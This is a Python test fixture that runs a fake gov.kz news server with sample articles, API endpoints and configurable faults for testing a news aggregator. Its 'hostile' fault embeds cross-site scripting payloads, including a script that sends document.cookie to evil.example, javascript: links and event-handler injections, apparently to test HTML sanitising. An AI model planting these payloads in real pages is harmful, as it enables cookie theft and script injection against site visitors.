"""A fake gov.kz: a real HTTP server that serves sample news the way gov.kz is known to.

Tests use it as a context manager (``with FakeGovKz(data_dir) as fake: fake.origin``); the
CLI runs it with :func:`run_fake`. What it serves, from ``news/{id}.json`` under
``data_dir`` (format in ``tests/data/govkz/README.md``):

- ``/memleket/entities/{slug}/press/news/details/{id}?lang=xx``: the empty single-page-app
  shell, or server-rendered HTML for User-Agents containing one of ``render_for``;
- ``/api/v1/public/content-manager/news/{id}`` and ``/news?projects=eq:{slug}&...``,
  choosing the language by ``Accept-Language``; in ``gated`` mode ``400 notAllowed``;
- ``/uploads/...`` (tiny real JPEG/PNG images) and ``/robots.txt``;
- ETag / Last-Modified and ``304`` answers to If-None-Match / If-Modified-Since.

Faults (:class:`Fault`) can be set per path or for every path at run time, and every request
is recorded with its monotonic arrival time (:attr:`FakeGovKz.requests`).
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import logging
import re
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from email.utils import format_datetime, parsedate_to_datetime
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Any, Literal, get_args
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

from aggregator.model import LANGS, Lang

logger = logging.getLogger(__name__)

ALMATY = ZoneInfo("Asia/Almaty")

ApiMode = Literal["open", "gated"]
ApiTimeRule = Literal["local", "utc"]
FaultKind = Literal[
    "status", "slow", "hang", "huge", "invalid-utf8", "mojibake", "redirect", "hostile"
]
FAULT_KINDS: tuple[FaultKind, ...] = get_args(FaultKind)

#: User-Agent substrings that get server-rendered pages instead of the shell.
DEFAULT_RENDER_FOR: tuple[str, ...] = ("govkz-feeds",)
#: What gov.kz reportedly disallows: search and the uploaded files, not the news pages.
ROBOTS_DEFAULT = "User-agent: *\nDisallow: /uploads/\nDisallow: /search\n"
ROBOTS_DISALLOW_ALL = "User-agent: *\nDisallow: /\n"

DETAIL_PATH = re.compile(r"/memleket/entities/(?P<slug>[a-z0-9-]+)/press/news/details/(?P<id>\d+)")
API_ITEM_PATH = re.compile(r"/api/v1/public/content-manager/news/(?P<id>\d+)")
API_LIST_PATH = "/api/v1/public/content-manager/news"

SITE_TITLE = "GOV.KZ - Единая платформа интернет-ресурсов государственных органов"

MONTHS: dict[Lang, tuple[str, ...]] = {
    "ru": ("января", "февраля", "марта", "апреля", "мая", "июня",
           "июля", "августа", "сентября", "октября", "ноября", "декабря"),
    "kk": ("қаңтар", "ақпан", "наурыз", "сәуір", "мамыр", "маусым",
           "шілде", "тамыз", "қыркүйек", "қазан", "қараша", "желтоқсан"),
    "en": ("January", "February", "March", "April", "May", "June",
           "July", "August", "September", "October", "November", "December"),
}  # fmt: skip

_CHUNK = 64 * 1024


# --- faults ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Fault:
    """A way to misbehave; build one with the class methods.

    ``times`` limits the fault to that many requests (then it is gone); ``None`` keeps it
    until :meth:`FakeGovKz.clear_faults`.
    """

    kind: FaultKind
    status: int = 200
    retry_after: str | None = None
    delay: float = 0.0
    location: str = ""
    size: int = 0
    declare_length: bool = True
    times: int | None = None

    def __post_init__(self) -> None:
        if self.kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault kind {self.kind!r}")

    @classmethod
    def http_status(
        cls, status: int, *, retry_after: str | None = None, times: int | None = None
    ) -> Fault:
        """Answer ``status`` (with ``Retry-After`` when given) instead of the resource."""
        return cls("status", status=status, retry_after=retry_after, times=times)

    @classmethod
    def not_found(cls, *, times: int | None = None) -> Fault:
        return cls.http_status(404, times=times)

    @classmethod
    def too_many_requests(cls, retry_after: str = "1", *, times: int | None = None) -> Fault:
        return cls.http_status(429, retry_after=retry_after, times=times)

    @classmethod
    def server_error(cls, *, times: int | None = None) -> Fault:
        return cls.http_status(500, times=times)

    @classmethod
    def unavailable(cls, retry_after: str | None = "1", *, times: int | None = None) -> Fault:
        return cls.http_status(503, retry_after=retry_after, times=times)

    @classmethod
    def slow(cls, delay: float, *, times: int | None = None) -> Fault:
        """The normal answer, after ``delay`` seconds."""
        return cls("slow", delay=delay, times=times)

    @classmethod
    def hang(cls, *, times: int | None = None) -> Fault:
        """Never answer (until the server stops)."""
        return cls("hang", times=times)

    @classmethod
    def huge(
        cls, size: int = 6 * 1024 * 1024, *, declare_length: bool = True, times: int | None = None
    ) -> Fault:
        """A 200 HTML body of ``size`` bytes, streamed; without ``Content-Length`` if asked."""
        return cls("huge", size=size, declare_length=declare_length, times=times)

    @classmethod
    def invalid_utf8(cls, *, times: int | None = None) -> Fault:
        """The normal answer with bytes that are not UTF-8, still labelled UTF-8."""
        return cls("invalid-utf8", times=times)

    @classmethod
    def mojibake(cls, *, times: int | None = None) -> Fault:
        """The normal answer decoded as cp1251 and re-encoded as UTF-8 (ASCII is unchanged)."""
        return cls("mojibake", times=times)

    @classmethod
    def redirect(cls, location: str, *, status: int = 302, times: int | None = None) -> Fault:
        """Redirect to ``location`` (absolute, or relative to the request)."""
        return cls("redirect", status=status, location=location, times=times)

    @classmethod
    def hostile(cls, *, times: int | None = None) -> Fault:
        """The article (rendered for every User-Agent) laced with scripts, handlers and
        ``javascript:`` links; on API paths the same inside the JSON ``body``."""
        return cls("hostile", times=times)


@dataclass(slots=True)
class _Armed:
    fault: Fault
    remaining: int | None


@dataclass(frozen=True, slots=True)
class RecordedRequest:
    """One request as it arrived; ``headers`` keys are lower-case."""

    at: float
    method: str
    path: str
    headers: Mapping[str, str]

    @property
    def user_agent(self) -> str:
        return self.headers.get("user-agent", "")


# --- sample data -------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Version:
    title: str
    paragraphs: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class SampleArticle:
    """One ``news/{id}.json``: ``published`` is Almaty wall-clock time (naive)."""

    id: int
    project: str
    published: datetime
    date_only: bool
    modified: datetime
    heropic: str | None
    body_image: tuple[str, str] | None
    api_body_document: bool
    versions: Mapping[Lang, Version]

    @property
    def original_lang(self) -> Lang:
        return next(iter(self.versions))

    @property
    def detail_path(self) -> str:
        return f"/memleket/entities/{self.project}/press/news/details/{self.id}"

    @property
    def uploads(self) -> tuple[str, ...]:
        paths = [self.heropic] if self.heropic else []
        if self.body_image:
            paths.append(self.body_image[0])
        return tuple(paths)


def _wall_clock(raw: str) -> tuple[datetime, bool]:
    if "T" in raw:
        return datetime.fromisoformat(raw), False
    return datetime.combine(date.fromisoformat(raw), datetime.min.time()), True


def load_article(path: Path) -> SampleArticle:
    """Read and check one sample file; a malformed file is a bug in the data (ValueError)."""
    raw: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    published, date_only = _wall_clock(raw["published"])
    versions: dict[Lang, Version] = {}
    for lang, version in raw["versions"].items():
        if lang not in LANGS:
            raise ValueError(f"{path}: unknown language {lang!r}")
        versions[lang] = Version(version["title"], tuple(version["paragraphs"]))
    if not versions:
        raise ValueError(f"{path}: no versions")
    image = raw.get("body_image")
    return SampleArticle(
        id=int(raw["id"]),
        project=str(raw["project"]),
        published=published,
        date_only=date_only,
        modified=datetime.fromisoformat(raw.get("modified") or raw["published"]),
        heropic=raw.get("heropic"),
        body_image=(image["src"], image["alt"]) if image else None,
        api_body_document=bool(raw.get("api_body_document", False)),
        versions=versions,
    )


def load_articles(data_dir: Path) -> dict[int, SampleArticle]:
    articles = (load_article(path) for path in sorted((data_dir / "news").glob("*.json")))
    return {article.id: article for article in articles}


# --- images ------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiny_png(rgb: tuple[int, int, int], size: int = 8) -> bytes:
    """A real ``size`` x ``size`` PNG of one colour."""
    row = b"\x00" + bytes(rgb) * size
    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(row * size))
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


def tiny_jpeg(grey: int) -> bytes:
    """A real baseline 8x8 greyscale JPEG of one level (0-255).

    One block whose only coefficient is DC; both Huffman tables hold a single 1-bit code.
    """
    dc = (grey - 128) * 8
    size = abs(dc).bit_length()
    bits = "0"
    if size:
        bits += format(dc if dc > 0 else dc + (1 << size) - 1, f"0{size}b")
    bits += "0"  # end of block
    bits += "1" * (-len(bits) % 8)
    scan = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8))
    return (
        b"\xff\xd8"
        + _jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + _jpeg_segment(0xDB, b"\x00" + b"\x01" * 64)
        + _jpeg_segment(0xC0, struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00")
        + _jpeg_segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + bytes([size]))
        + _jpeg_segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00")
        + _jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + scan.replace(b"\xff", b"\xff\x00")
        + b"\xff\xd9"
    )


def image_for(path: str) -> tuple[bytes, str] | None:
    """Deterministic image bytes and content type for an ``/uploads/...`` path."""
    digest = hashlib.sha256(path.encode()).digest()
    if path.endswith((".jpeg", ".jpg")):
        return tiny_jpeg(digest[0]), "image/jpeg"
    if path.endswith(".png"):
        return tiny_png((digest[0], digest[1], digest[2])), "image/png"
    return None


# --- rendering ---------------------------------------------------------------------------


def date_line(moment: datetime, lang: Lang, *, date_only: bool = False) -> str:
    """The line under the title: ``14 февраля 2025 11:58``, ``14 ақпан 2025 11:58``."""
    text = f"{moment.day} {MONTHS[lang][moment.month - 1]} {moment.year}"
    return text if date_only else f"{text} {moment:%H:%M}"


def created_date(article: SampleArticle, rule: ApiTimeRule) -> str:
    """``created_date`` as the API writes it, under the given reading of ``+00:00``."""
    if article.date_only:
        return f"{article.published:%Y-%m-%d}T00:00:00.000+00:00"
    moment = article.published
    if rule == "utc":
        moment = moment.replace(tzinfo=ALMATY).astimezone(UTC).replace(tzinfo=None)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.000+00:00"


def body_html(article: SampleArticle, lang: Lang) -> str:
    version = article.versions.get(lang)
    if version is None:
        return ""
    paragraphs = [f"<p>{escape(text)}</p>" for text in version.paragraphs]
    if article.body_image is not None:
        src, alt = article.body_image
        paragraphs.insert(1, f'<p><img src="{escape(src)}" alt="{escape(alt)}"></p>')
    return "".join(paragraphs)


def api_item(article: SampleArticle, lang: Lang, rule: ApiTimeRule) -> dict[str, Any]:
    """The API's JSON object for one item; an absent translation has an empty title and body."""
    version = article.versions.get(lang)
    body = body_html(article, lang)
    if version is not None and article.api_body_document:
        head = f"<head><title>{escape(version.title)}</title></head>"
        body = f"<html>{head}<body>{body}</body></html>"
    return {
        "id": article.id,
        "title": version.title if version else "",
        "body": body,
        "created_date": created_date(article, rule),
        "slug": f"news-{article.id}",
        "heropic": article.heropic,
        "projects": [article.project],
    }


def spa_shell(lang: str = "kk") -> str:
    return (
        f'<!DOCTYPE html><html lang="{escape(lang)}"><head><meta charset="utf-8">'
        f"<title>{SITE_TITLE}</title></head><body>"
        "<noscript>You need to enable JavaScript to run this app.</noscript>"
        '<div id="root"></div><script src="/static/js/main.5f3c2a1b.js"></script>'
        "</body></html>"
    )


HOSTILE_HEAD = (
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
    "<style>body{background:url(javascript:alert(1))}</style>"
)
HOSTILE_BODY = (
    '<p onclick="alert(1)" style="x:expression(alert(1))">Click <a href="javascript:alert(1)">'
    'here</a> or <a href=" jav&#x09;ascript:alert(2)">there</a> or '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>.</p>'
    "<img src=x onerror=alert(1)>"
    '<svg onload="alert(1)"><script>alert(2)</script></svg>'
    '<iframe src="javascript:alert(1)"></iframe>'
    '<object data="http://evil.example/x.swf"></object>'
    '<form action="http://evil.example/"><input name="q"><button>Go</button></form>'
    "<script>alert('body')</script>"
)


def render_detail_page(article: SampleArticle, lang: Lang, *, hostile: bool = False) -> str:
    """Server-rendered detail page; an absent translation gives an empty ``<h1>``."""
    version = article.versions.get(lang)
    title = escape(version.title) if version else ""
    hero = ""
    if article.heropic and version:
        hero = f'<figure class="news-details__hero"><img src="{escape(article.heropic)}"></figure>'
    body = body_html(article, lang)
    head_extra = HOSTILE_HEAD if hostile else ""
    body_extra = HOSTILE_BODY if hostile else ""
    when = date_line(article.published, lang, date_only=article.date_only) if version else ""
    return (
        f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8">'
        f"<title>{title} | GOV.KZ</title>{head_extra}</head><body>"
        '<header class="header"><nav><ul><li><a href="/memleket/entities">Мемлекеттік органдар</a>'
        '</li><li><a href="/services">Қызметтер</a></li></ul></nav></header>'
        '<div id="root"><main class="news-details">'
        f'<div class="breadcrumbs"><a href="/memleket/entities/{article.project}">'
        f"{article.project}</a> / <span>Press</span></div>"
        f'<h1 class="news-details__title">{title}</h1>'
        f'<p class="categories__item color_grey">{when}</p>'
        f"{hero}"
        f'<div class="news-details__body">{body_extra}{body}</div>'
        '<div class="share-links"><a href="https://t.me/share/url?url=x">Telegram</a></div>'
        "</main></div>"
        "<footer><p>© 2025 GOV.KZ</p></footer>"
        "</body></html>"
    )


def not_found_page() -> str:
    return (
        f'<!DOCTYPE html><html lang="kk"><head><meta charset="utf-8"><title>{SITE_TITLE}</title>'
        "</head><body><p>404</p></body></html>"
    )


def preferred_lang(accept_language: str | None, default: Lang) -> Lang:
    """The first of kk/ru/en in an ``Accept-Language`` header, by q-value (``kz`` is kk)."""
    ranked: list[tuple[float, int, Lang]] = []
    for position, part in enumerate((accept_language or "").split(",")):
        name, _, params = part.strip().partition(";")
        tag = name.strip().lower().split("-")[0]
        tag = "kk" if tag == "kz" else tag
        quality = 1.0
        match = re.search(r"q=([0-9.]+)", params)
        if match:
            try:
                quality = float(match.group(1))
            except ValueError:
                quality = 0.0
        for lang in LANGS:
            if tag == lang and quality > 0:
                ranked.append((-quality, position, lang))
    return min(ranked)[2] if ranked else default


def _etag(body: bytes) -> str:
    return '"' + hashlib.sha256(body).hexdigest()[:20] + '"'


def _http_date(moment: datetime) -> str:
    return format_datetime(moment.replace(tzinfo=ALMATY).astimezone(UTC), usegmt=True)


def _not_modified(headers: Mapping[str, str], etag: str, last_modified: str | None) -> bool:
    if_none_match = headers.get("if-none-match")
    if if_none_match is not None:
        tags = {tag.strip().removeprefix("W/") for tag in if_none_match.split(",")}
        return "*" in tags or etag in tags
    since = headers.get("if-modified-since")
    if since and last_modified:
        try:
            return parsedate_to_datetime(last_modified) <= parsedate_to_datetime(since)
        except (TypeError, ValueError):
            return False
    return False


# --- the server --------------------------------------------------------------------------


@dataclass(slots=True)
class _Answer:
    status: int
    body: bytes = b""
    content_type: str = "text/html; charset=utf-8"
    headers: dict[str, str] = field(default_factory=dict)
    cacheable: bool = False


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def __init__(self, address: tuple[str, int], fake: FakeGovKz) -> None:
        self.fake = fake
        super().__init__(address, _Handler)

    def handle_error(self, request: Any, client_address: Any) -> None:
        # A client that hung up mid-answer (size caps, timeouts) is routine here.
        logger.debug("fake-govkz connection error client=%s", client_address, exc_info=True)


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"
    server_version = "fake-govkz"
    sys_version = ""
    timeout = 10

    def setup(self) -> None:
        super().setup()
        self.server.fake._track(self.connection, add=True)

    def finish(self) -> None:
        try:
            super().finish()
        finally:
            self.server.fake._track(self.connection, add=False)

    def log_message(self, format: str, *args: Any) -> None:
        logger.debug("fake-govkz " + format, *args)

    def do_GET(self) -> None:
        self.server.fake._handle(self)

    def _refuse(self) -> None:
        self.server.fake._record(self)
        self._send(_Answer(405, b"method not allowed", "text/plain; charset=utf-8"))

    do_POST = do_PUT = do_DELETE = do_PATCH = _refuse

    def _send(self, answer: _Answer) -> None:
        self.send_response(answer.status)
        if answer.body or answer.status not in (204, 304):
            self.send_header("Content-Type", answer.content_type)
        for name, value in answer.headers.items():
            self.send_header(name, value)
        if answer.status not in (204, 304):
            self.send_header("Content-Length", str(len(answer.body)))
        self.end_headers()
        self._write(answer.body)

    def _write(self, data: bytes) -> bool:
        try:
            self.wfile.write(data)
            self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, OSError):
            self.close_connection = True
            return False
        return True

    def _stream(self, size: int, declare_length: bool) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        if declare_length:
            self.send_header("Content-Length", str(size))
        else:
            self.send_header("Connection", "close")
            self.close_connection = True
        self.end_headers()
        chunk = b"<p>" + b"x" * (_CHUNK - 7) + b"</p>\n"
        sent = 0
        while sent < size and not self.server.fake._stopping.is_set():
            piece = chunk[: size - sent]
            if not self._write(piece):
                return
            sent += len(piece)


class FakeGovKz:
    """The fake gov.kz server; thread-safe to reconfigure while it runs."""

    def __init__(
        self,
        data_dir: Path,
        *,
        host: str = "127.0.0.1",
        port: int = 0,
        mode: ApiMode = "open",
        render_for: Iterable[str] = DEFAULT_RENDER_FOR,
        robots: str | None = ROBOTS_DEFAULT,
        api_time_rule: ApiTimeRule = "local",
    ) -> None:
        self.articles = load_articles(Path(data_dir))
        if not self.articles:
            raise ValueError(f"no sample articles under {data_dir}/news")
        self._uploads = {path for article in self.articles.values() for path in article.uploads}
        self._host = host
        self._port = port
        self._lock = threading.Lock()
        self._lifecycle = threading.Lock()
        self._mode: ApiMode = mode
        self._render_for = tuple(render_for)
        self._robots = robots
        self._api_time_rule: ApiTimeRule = api_time_rule
        self._faults: dict[str | None, _Armed] = {}
        self._requests: list[RecordedRequest] = []
        self._connections: set[socket.socket] = set()
        self._stopping = threading.Event()
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None

    # lifecycle

    def start(self) -> FakeGovKz:
        with self._lifecycle:
            return self._start()

    def _start(self) -> FakeGovKz:
        if self._server is not None:
            raise RuntimeError("fake gov.kz already started")
        self._stopping.clear()
        self._server = _Server((self._host, self._port), self)
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )
        self._thread.start()
        logger.info("fake-govkz started origin=%s articles=%d", self.origin, len(self.articles))
        return self

    def stop(self) -> None:
        with self._lifecycle:
            self._stop()

    def _stop(self) -> None:
        server, thread = self._server, self._thread
        if server is None:
            return
        self._stopping.set()  # releases hanging and slow handlers
        server.shutdown()
        with self._lock:
            connections = list(self._connections)
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
        server.server_close()
        if thread is not None:
            thread.join(timeout=5)
        self._server = self._thread = None
        logger.info("fake-govkz stopped")

    def wait(self) -> None:
        """Block until :meth:`stop` is called (from another thread) or Ctrl-C."""
        self._stopping.wait()

    def __enter__(self) -> FakeGovKz:
        return self.start()

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self.stop()

    # addresses

    @property
    def port(self) -> int:
        if self._server is None:
            raise RuntimeError("fake gov.kz not started")
        return int(self._server.server_address[1])

    @property
    def origin(self) -> str:
        return f"http://{self._host}:{self.port}"

    def url(self, path: str) -> str:
        return self.origin + path

    def detail_path(self, news_id: int, lang: Lang | None = None) -> str:
        path = self.articles[news_id].detail_path
        return f"{path}?lang={lang}" if lang else path

    @staticmethod
    def api_item_path(news_id: int) -> str:
        return f"{API_LIST_PATH}/{news_id}"

    # run-time configuration

    def set_api_mode(self, mode: ApiMode) -> None:
        if mode not in get_args(ApiMode):
            raise ValueError(f"unknown API mode {mode!r}")
        with self._lock:
            self._mode = mode

    def set_render_for(self, substrings: Iterable[str]) -> None:
        with self._lock:
            self._render_for = tuple(substrings)

    def set_robots(self, text: str | None) -> None:
        """``robots.txt`` content; ``None`` answers 404."""
        with self._lock:
            self._robots = text

    def set_api_time_rule(self, rule: ApiTimeRule) -> None:
        with self._lock:
            self._api_time_rule = rule

    def set_fault(self, fault: Fault, path: str | None = None) -> None:
        """Misbehave on ``path`` (exact, or a prefix when it ends with ``*``), or on every
        path except ``/robots.txt`` when ``path`` is None. A path fault beats the global one.
        A query string in ``path`` is ignored: faults apply to the path whatever the query."""
        key = path.split("?", 1)[0] if path is not None else None
        with self._lock:
            self._faults[key] = _Armed(fault, fault.times)

    def clear_faults(self) -> None:
        with self._lock:
            self._faults.clear()

    # observation

    @property
    def requests(self) -> tuple[RecordedRequest, ...]:
        with self._lock:
            return tuple(self._requests)

    def requests_to(self, path_prefix: str) -> tuple[RecordedRequest, ...]:
        return tuple(r for r in self.requests if r.path.startswith(path_prefix))

    def clear_requests(self) -> None:
        with self._lock:
            self._requests.clear()

    # internals

    def _track(self, connection: socket.socket, *, add: bool) -> None:
        with self._lock:
            if add:
                self._connections.add(connection)
            else:
                self._connections.discard(connection)

    def _record(self, handler: _Handler) -> None:
        headers = {name.lower(): value for name, value in handler.headers.items()}
        request = RecordedRequest(time.monotonic(), handler.command, handler.path, headers)
        with self._lock:
            self._requests.append(request)

    def _take_fault(self, path: str) -> Fault | None:
        with self._lock:
            prefixes = [k for k in self._faults if k and k.endswith("*")]
            key: str | None
            if path in self._faults:
                key = path
            elif matching := [k for k in prefixes if path.startswith(k[:-1])]:
                key = max(matching, key=len)  # the most specific prefix
            elif None in self._faults and path != "/robots.txt":
                key = None
            else:
                return None
            armed = self._faults[key]
            if armed.remaining is not None:
                armed.remaining -= 1
                if armed.remaining <= 0:
                    del self._faults[key]
            return armed.fault

    def _handle(self, handler: _Handler) -> None:
        self._record(handler)
        path = urlsplit(handler.path).path
        fault = self._take_fault(path)
        if fault is None:
            self._answer(handler, self._resource(handler))
            return
        logger.debug("fake-govkz fault kind=%s path=%s", fault.kind, path)
        if fault.kind == "status":
            handler._send(self._status_answer(path, fault.status, fault.retry_after))
        elif fault.kind == "slow":
            if not self._stopping.wait(fault.delay):
                self._answer(handler, self._resource(handler))
        elif fault.kind == "hang":
            self._stopping.wait()
            handler.close_connection = True
        elif fault.kind == "huge":
            handler._stream(fault.size, fault.declare_length)
        elif fault.kind == "redirect":
            headers = {"Location": fault.location}
            handler._send(_Answer(fault.status, b"", "text/html; charset=utf-8", headers))
        else:
            answer = self._resource(handler, hostile=fault.kind == "hostile")
            if fault.kind == "invalid-utf8":
                answer.body = _inject_invalid_utf8(answer.body)
            elif fault.kind == "mojibake":
                answer.body = answer.body.decode("cp1251", errors="replace").encode("utf-8")
            answer.cacheable = False
            handler._send(answer)

    def _answer(self, handler: _Handler, answer: _Answer) -> None:
        if answer.cacheable and answer.status == 200:
            etag = _etag(answer.body)
            answer.headers.setdefault("ETag", etag)
            headers = {name.lower(): value for name, value in handler.headers.items()}
            if _not_modified(headers, answer.headers["ETag"], answer.headers.get("Last-Modified")):
                kept = {k: v for k, v in answer.headers.items() if k in ("ETag", "Last-Modified")}
                handler._send(_Answer(304, b"", answer.content_type, kept))
                return
        handler._send(answer)

    @staticmethod
    def _status_answer(path: str, status: int, retry_after: str | None) -> _Answer:
        headers = {"Retry-After": retry_after} if retry_after else {}
        if path.startswith("/api/"):
            body = json.dumps({"message": f"status{status}"}).encode()
            return _Answer(status, body, "application/json;charset=UTF-8", headers)
        return _Answer(status, f"<p>{status}</p>".encode(), "text/html; charset=utf-8", headers)

    def _resource(self, handler: _Handler, *, hostile: bool = False) -> _Answer:
        parts = urlsplit(handler.path)
        query = parse_qs(parts.query)
        headers = {name.lower(): value for name, value in handler.headers.items()}
        with self._lock:
            mode, render_for, robots = self._mode, self._render_for, self._robots
            rule = self._api_time_rule
        if parts.path == "/robots.txt":
            if robots is None:
                return _Answer(404, b"not found", "text/plain; charset=utf-8")
            return _Answer(200, robots.encode(), "text/plain; charset=utf-8")
        if match := DETAIL_PATH.fullmatch(parts.path):
            user_agent = headers.get("user-agent", "")
            rendered = hostile or any(s in user_agent for s in render_for)
            return self._detail(match, query, rendered=rendered, hostile=hostile)
        if match := API_ITEM_PATH.fullmatch(parts.path):
            if mode == "gated":
                return _json_answer(400, {"message": "notAllowed"})
            return self._api_item(int(match["id"]), headers, rule, hostile=hostile)
        if parts.path == API_LIST_PATH:
            if mode == "gated":
                return _json_answer(400, {"message": "notAllowed"})
            return self._api_list(query, headers, rule)
        if parts.path.startswith("/uploads/") and parts.path in self._uploads:
            image = image_for(parts.path)
            if image is not None:
                headers_out = {"Last-Modified": "Mon, 03 Feb 2025 06:00:00 GMT"}
                return _Answer(200, image[0], image[1], headers_out, cacheable=True)
        if parts.path.startswith("/static/js/"):
            return _Answer(200, b"/* app */", "application/javascript; charset=utf-8")
        return _Answer(404, not_found_page().encode())

    def _detail(
        self,
        match: re.Match[str],
        query: Mapping[str, list[str]],
        *,
        rendered: bool,
        hostile: bool,
    ) -> _Answer:
        asked = (query.get("lang") or [""])[0]
        if not rendered:
            # The client-side app answers every route with the same shell.
            shell = spa_shell(asked if asked in LANGS else "kk")
            return _Answer(200, shell.encode(), cacheable=True)
        article = self.articles.get(int(match["id"]))
        if article is None or article.project != match["slug"]:
            return _Answer(404, not_found_page().encode())
        lang: Lang = next((lang for lang in LANGS if lang == asked), article.original_lang)
        page = render_detail_page(article, lang, hostile=hostile)
        headers = {"Last-Modified": _http_date(article.modified)}
        return _Answer(200, page.encode(), headers=headers, cacheable=True)

    def _api_item(
        self, news_id: int, headers: Mapping[str, str], rule: ApiTimeRule, *, hostile: bool
    ) -> _Answer:
        article = self.articles.get(news_id)
        if article is None:
            return _json_answer(404, {"message": "notFound"})
        lang = preferred_lang(headers.get("accept-language"), article.original_lang)
        item = api_item(article, lang, rule)
        if hostile:
            item["body"] = HOSTILE_HEAD + HOSTILE_BODY + item["body"]
        answer = _json_answer(200, item)
        answer.headers["Last-Modified"] = _http_date(article.modified)
        answer.headers["Vary"] = "Accept-Language"
        answer.cacheable = True
        return answer

    def _api_list(
        self, query: Mapping[str, list[str]], headers: Mapping[str, str], rule: ApiTimeRule
    ) -> _Answer:
        project = (query.get("projects") or [""])[0].removeprefix("eq:")
        after = (query.get("created_date") or [""])[0]
        if after.startswith("gte:"):
            return _json_answer(500, {"message": "internalError"})
        try:
            page = int((query.get("page") or ["1"])[0])
            size = min(int((query.get("size") or ["10"])[0]), 100)
            since = datetime.fromisoformat(after.removeprefix("gt:")) if after else None
        except ValueError:
            return _json_answer(400, {"message": "badRequest"})
        if page < 1 or size < 1:
            return _json_answer(400, {"message": "badRequest"})
        descending = (query.get("sort-by") or ["created_date:DESC"])[0].upper().endswith(":DESC")
        lang = preferred_lang(headers.get("accept-language"), "kk")
        chosen = [
            article
            for article in self.articles.values()
            if (not project or article.project == project) and lang in article.versions
        ]
        chosen.sort(key=lambda a: (a.published, a.id), reverse=descending)
        items = [api_item(article, lang, rule) for article in chosen]
        if since is not None:
            items = [
                item
                for item in items
                if datetime.fromisoformat(item["created_date"]) > _aware(since)
            ]
        answer = _json_answer(200, items[(page - 1) * size : page * size])
        answer.headers["Vary"] = "Accept-Language"
        answer.cacheable = True
        return answer


def _aware(moment: datetime) -> datetime:
    return moment if moment.tzinfo is not None else moment.replace(tzinfo=UTC)


def _json_answer(status: int, payload: Any) -> _Answer:
    body = json.dumps(payload, ensure_ascii=False).encode("utf-8")
    return _Answer(status, body, "application/json;charset=UTF-8")


def _inject_invalid_utf8(body: bytes) -> bytes:
    for marker in (b"<p>", b'"title": "', b"<title>"):
        at = body.find(marker)
        if at >= 0:
            at += len(marker)
            return body[:at] + b"\xff\xfe\xc3\x28 " + body[at:]
    return b"\xff\xfe" + body


def run_fake(
    port: int,
    data_dir: Path,
    host: str = "127.0.0.1",
    *,
    mode: ApiMode = "open",
    on_ready: Callable[[FakeGovKz], None] | None = None,
) -> None:
    """Serve the fake until Ctrl-C (or ``stop()`` from another thread); ``on_ready`` gets
    the running fake, e.g. to print ``fake.origin``."""
    with FakeGovKz(data_dir, host=host, port=port, mode=mode) as fake:
        if on_ready is not None:
            on_ready(fake)
        try:
            fake.wait()
        except KeyboardInterrupt:
            logger.info("fake-govkz interrupted")
